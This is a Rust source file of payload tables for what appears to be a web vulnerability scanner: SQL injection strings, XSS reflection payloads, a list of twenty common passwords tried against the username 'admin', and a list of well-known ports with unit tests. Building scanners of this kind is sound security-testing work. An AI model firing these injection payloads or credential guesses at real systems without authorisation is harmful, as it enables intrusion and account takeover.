//! Fixed payload tables consumed by the probe strategies.
//!
//! Ordering matters everywhere in this file: intensity selects a prefix of
//! each list, so the same `(kind, intensity)` pair always exercises the
//! same payloads.

/// SQL injection strings, ordered from the most generic tautology down.
pub const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' /*",
    "admin' --",
    "admin' #",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL, NULL--",
    "1' OR '1'='1",
    "1' AND '1'='1",
    "1' AND '1'='2",
];

/// Query parameter names injection payloads are applied to.
pub const INJECTION_PARAMS: &[&str] = &["id", "user", "search"];

/// Markup and script payloads for reflection probes.
pub const REFLECTION_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<body onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "<keygen onfocus=alert('XSS') autofocus>",
];

/// Query parameter names reflection payloads are applied to.
pub const REFLECTION_PARAMS: &[&str] = &["q", "search", "input"];

/// Common passwords tried by the credential-guess probe, most common first.
pub const COMMON_PASSWORDS: &[&str] = &[
    "password", "123456", "password123", "admin", "root",
    "12345678", "qwerty", "abc123", "monkey", "1234567",
    "letmein", "trustno1", "dragon", "baseball", "iloveyou",
    "master", "sunshine", "ashley", "bailey", "passw0rd",
];

/// Username submitted with every credential attempt.
pub const CREDENTIAL_USERNAME: &str = "admin";

/// Well-known TCP ports visited by default port sweeps, with service names.
pub const WELL_KNOWN_PORTS: &[(u16, &str)] = &[
    (21, "FTP"),
    (22, "SSH"),
    (23, "Telnet"),
    (25, "SMTP"),
    (53, "DNS"),
    (80, "HTTP"),
    (110, "POP3"),
    (111, "RPC"),
    (135, "MSRPC"),
    (139, "NetBIOS"),
    (143, "IMAP"),
    (443, "HTTPS"),
    (445, "SMB"),
    (993, "IMAPS"),
    (995, "POP3S"),
    (1723, "PPTP"),
    (3306, "MySQL"),
    (3389, "RDP"),
    (5432, "PostgreSQL"),
    (5900, "VNC"),
    (8080, "HTTP-Proxy"),
    (8443, "HTTPS-Alt"),
    (8888, "HTTP-Alt"),
    (9000, "SonarQube"),
];

/// Looks up the conventional service name for a port.
#[must_use]
pub fn service_name(port: u16) -> &'static str {
    WELL_KNOWN_PORTS
        .iter()
        .find(|(p, _)| *p == port)
        .map_or("Unknown", |(_, name)| name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn first_sql_payload_is_basic_tautology() {
        assert_eq!(SQL_PAYLOADS[0], "' OR '1'='1");
    }

    #[test]
    fn payload_lists_have_ten_entries() {
        assert_eq!(SQL_PAYLOADS.len(), 10);
        assert_eq!(REFLECTION_PAYLOADS.len(), 10);
    }

    #[test]
    fn twenty_common_passwords() {
        assert_eq!(COMMON_PASSWORDS.len(), 20);
    }

    #[test]
    fn known_service_lookup() {
        assert_eq!(service_name(22), "SSH");
        assert_eq!(service_name(5432), "PostgreSQL");
        assert_eq!(service_name(6), "Unknown");
    }
}
